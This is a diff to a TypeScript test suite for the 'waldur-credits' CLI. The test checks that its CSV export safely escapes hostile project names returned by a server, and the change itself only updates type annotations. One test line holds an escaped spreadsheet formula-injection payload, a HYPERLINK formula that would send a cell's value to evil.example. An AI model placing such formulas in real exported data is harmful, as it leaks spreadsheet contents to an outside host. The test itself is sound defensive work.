@@ -194,7 +194,7 @@ describe.runIf(built)('waldur-credits output against a server with hostile names
     const fields = 'uuid,project_name,customer_name,value,consumption_last_month';
     const [safe, raw] = await Promise.all([run(['export', '--fields', fields], env), run(['list', '--all', '--format', 'csv', '--fields', fields, '--csv-raw-text'], env)]);
     expect(safe).toMatchObject({ code: 0, stderr: '' });
-    const rows = parse(safe.stdout, { columns: true }) as Record<string, string>[];
+    const rows = parse<Record<string, string>>(safe.stdout, { columns: true });
     expect(rows).toHaveLength(Object.keys(names).length);
     for (const row of rows) {
       const name = nameOf(row.uuid!);
@@ -209,7 +209,7 @@ describe.runIf(built)('waldur-credits output against a server with hostile names
     expect(safe.stdout).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")"`);
     expect(safe.stdout).toMatch(/,"Genome assembly",/);
     expect(safe.stdout).toMatch(/,-12\.5\r?\n/);
-    const rawRows = parse(raw.stdout, { columns: true }) as Record<string, string>[];
+    const rawRows = parse<Record<string, string>>(raw.stdout, { columns: true });
     for (const row of rawRows) expect(row.project_name).toBe(nameOf(row.uuid!));
     // get as CSV, too.
     const one = rows.find((r) => nameOf(r.uuid!) === FORMULAS.at)!;
